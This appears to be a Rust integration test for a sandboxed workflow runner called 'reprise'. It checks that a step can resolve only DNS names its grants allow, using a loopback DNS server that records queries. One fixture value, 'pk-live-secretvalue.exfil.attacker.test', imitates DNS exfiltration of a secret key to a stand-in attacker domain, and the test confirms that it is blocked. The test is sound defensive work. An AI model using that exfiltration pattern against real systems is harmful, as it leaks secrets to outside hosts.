//! A step looks up only the names its instance's grants name. The test runs `reprise run` in
//! its own mount namespace with `/etc/resolv.conf` pointing at a DNS server the test runs on
//! loopback, and sees which queries reach it: a granted name's does, an exfiltrating name's
//! never leaves the host.

use crate::common;
use crate::guests::SHOP;

use std::net::{Ipv4Addr, UdpSocket};
use std::process::Command;
use std::sync::atomic::{AtomicBool, Ordering};
use std::sync::{Arc, Mutex};
use std::time::Duration;

use common::{guest, reprise_bin};

/// The one name the loopback server answers (with 127.0.0.1); others are NXDOMAIN.
const GRANTED: &str = "granted.reprise.test";

/// A DNS server on `127.53.x.y:53` that records every name it is asked about.
struct LoopbackDns {
    address: Ipv4Addr,
    asked: Arc<Mutex<Vec<String>>>,
    stop: Arc<AtomicBool>,
}

impl LoopbackDns {
    fn start() -> LoopbackDns {
        // An address of its own in 127/8, so port 53 is free whatever else listens.
        let low = (std::process::id() % 250) as u8 + 1;
        let address = Ipv4Addr::new(127, 53, low, 53);
        let socket = UdpSocket::bind((address, 53)).expect("bind a loopback DNS server (as root)");
        socket
            .set_read_timeout(Some(Duration::from_millis(100)))
            .expect("timeout");
        let asked = Arc::new(Mutex::new(Vec::new()));
        let stop = Arc::new(AtomicBool::new(false));
        let (seen, done) = (asked.clone(), stop.clone());
        std::thread::spawn(move || {
            let mut buf = [0u8; 1500];
            while !done.load(Ordering::Relaxed) {
                let Ok((n, from)) = socket.recv_from(&mut buf) else {
                    continue;
                };
                if let Some((name, answer)) = answer(&buf[..n]) {
                    seen.lock().expect("names").push(name);
                    let _ = socket.send_to(&answer, from);
                }
            }
        });
        LoopbackDns {
            address,
            asked,
            stop,
        }
    }

    fn asked(&self) -> Vec<String> {
        self.asked.lock().expect("names").clone()
    }
}

impl Drop for LoopbackDns {
    fn drop(&mut self) {
        self.stop.store(true, Ordering::Relaxed);
    }
}

/// The name a query asks about and the answer: 127.0.0.1 for an A query of [`GRANTED`], no
/// records for its other types, NXDOMAIN for any other name.
fn answer(query: &[u8]) -> Option<(String, Vec<u8>)> {
    let mut at = 12;
    let mut labels = Vec::new();
    loop {
        let len = usize::from(*query.get(at)?);
        at += 1;
        if len == 0 {
            break;
        }
        labels.push(String::from_utf8_lossy(query.get(at..at + len)?).into_owned());
        at += len;
    }
    let question = query.get(12..at + 4)?;
    let qtype = u16::from_be_bytes([query[at], query[at + 1]]);
    let name = labels.join(".").to_ascii_lowercase();
    let known = name == GRANTED;
    let records: u16 = u16::from(known && qtype == 1);
    let mut reply = Vec::new();
    reply.extend_from_slice(&query[..2]);
    reply.extend_from_slice(&[0x81, if known { 0x80 } else { 0x83 }]);
    reply.extend_from_slice(&[0, 1]);
    reply.extend_from_slice(&records.to_be_bytes());
    reply.extend_from_slice(&[0, 0, 0, 0]);
    reply.extend_from_slice(question);
    if records == 1 {
        reply.extend_from_slice(&[0xc0, 0x0c, 0, 1, 0, 1, 0, 0, 0, 60, 0, 4, 127, 0, 0, 1]);
    }
    Some((name, reply))
}

/// `reprise run` of the shop's `lookup_in_step(name)` with a TCP grant for [`GRANTED`], in a
/// mount namespace whose `/etc/resolv.conf` names only `dns`.
fn lookup(dir: &std::path::Path, dns: &LoopbackDns, name: &str) -> std::process::Output {
    let resolv = dir.join("resolv.conf");
    std::fs::write(
        &resolv,
        format!("nameserver {}\noptions timeout:1 attempts:1\n", dns.address),
    )
    .expect("resolv.conf");
    Command::new("unshare")
        .args([
            "--mount",
            "sh",
            "-c",
            "mount --bind \"$1\" /etc/resolv.conf && shift && exec \"$@\"",
            "sh",
        ])
        .arg(&resolv)
        .arg(reprise_bin())
        .arg("run")
        .arg(guest(SHOP))
        .args(["lookup_in_step", &format!("{name:?}")])
        .args(["--allow-tcp", &format!("{GRANTED}:7000"), "--database"])
        .arg(dir.join("dns.db"))
        .env("REPRISE_CACHE_DIR", dir.join("cache"))
        .output()
        .expect("run unshare (util-linux)")
}

#[test]
fn a_step_looks_up_only_granted_names() {
    let dir = tempfile::tempdir().expect("dir");
    let dns = LoopbackDns::start();

    let granted = lookup(dir.path(), &dns, GRANTED);
    let said = String::from_utf8_lossy(&granted.stderr);
    assert!(granted.status.success(), "{said}");
    assert_eq!(
        String::from_utf8_lossy(&granted.stdout).trim(),
        "\"1 addresses\""
    );
    assert!(
        dns.asked().iter().any(|name| name == GRANTED),
        "the granted name was looked up by the test's server: {:?}",
        dns.asked()
    );

    let secret = "pk-live-secretvalue.exfil.attacker.test";
    let refused = lookup(dir.path(), &dns, secret);
    let said = String::from_utf8_lossy(&refused.stderr);
    assert_eq!(
        refused.status.code(),
        Some(1),
        "the workflow failed: {said}"
    );
    assert!(
        said.contains(&format!("looking up {secret:?} is not granted to instance")),
        "{said}"
    );
    assert!(
        !dns.asked().iter().any(|name| name.contains("secretvalue")),
        "no query for the refused name left the host: {:?}",
        dns.asked()
    );
}
